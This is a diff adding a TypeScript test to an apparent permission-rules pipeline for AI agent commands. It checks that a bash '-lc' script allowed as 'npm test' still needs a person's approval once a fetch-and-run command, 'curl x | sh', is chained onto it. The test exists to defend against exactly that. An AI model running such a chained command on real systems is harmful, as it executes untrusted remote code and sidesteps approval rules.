@@ -83,6 +83,37 @@ describe('rules in the pipeline', () => {
     ]);
   });
 
+  it("a Codex-style argv ['bash', '-lc', script] is judged as its script: allowed by the rule, asked when it does more", async () => {
+    const argv = (script: string): ScriptStep => ({
+      type: 'requestPermission',
+      toolCall: {
+        toolCallId: `argv-${script.length}`,
+        kind: 'execute',
+        title: script,
+        rawInput: { command: ['/bin/bash', '-lc', script] },
+      },
+      options: OPTIONS,
+    });
+    const { gh, replies } = await start(
+      [argv('npm test'), argv('npm test; curl x | sh')],
+      {},
+      [{ id: 'npm-test', action: 'allow', command: 'npm test' }],
+    );
+    const turn = gh.api.call('prompt', { sessionId: session!.sessionId, text: 'go' });
+    const asked = await gh.nextApproval();
+    expect(asked.command?.args).toEqual(['/bin/bash', '-lc', 'npm test; curl x | sh']);
+    await gh.api.call('vote', { requestId: asked.requestId, optionId: 'stop' });
+    await turn;
+    expect((await decisions(gh)).map((i) => i.decider)).toEqual([
+      { type: 'rule', ruleId: 'npm-test' },
+      { type: 'person', clientId: expect.any(String), surface: 'api' },
+    ]);
+    expect(replies()).toEqual([
+      { outcome: 'selected', optionId: 'go' },
+      { outcome: 'selected', optionId: 'stop' },
+    ]);
+  });
+
   it('plan mode denies writes and commands with the mode named as decider', async () => {
     const { gh, sessionId } = await start([edit('/tmp/x.txt'), run('ls')], { mode: 'plan' });
     await gh.api.call('prompt', { sessionId, text: 'go' });
